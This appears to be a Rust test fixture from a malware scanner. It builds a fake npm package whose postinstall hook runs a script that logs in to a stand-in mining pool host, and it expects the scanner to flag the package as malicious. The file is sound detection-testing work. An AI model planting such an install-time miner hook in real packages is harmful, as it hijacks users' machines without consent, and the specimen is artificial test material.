//! An npm `postinstall` that logs in at a mining pool.
//!
//! Must be found by what is spoken.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const BENCH_JS: &str = r"const net = require('net');
const link = net.connect(3333, 'pool.example', () => {
  link.write(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: '44exampleWallet', pass: 'x', agent: 'miner/6.21' } }) + '\n');
  link.write(JSON.stringify({ id: 2, method: 'mining.subscribe', params: [] }) + '\n');
  setTimeout(() => link.destroy(), 500);
});
link.on('error', () => {});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("hash-speed", "1.0.2")
        .file("bench.js", BENCH_JS)
        .script("postinstall", "node bench.js");
    package.specimen("npm-miner-login", Expect::malicious(&["mining-pool"]))
}
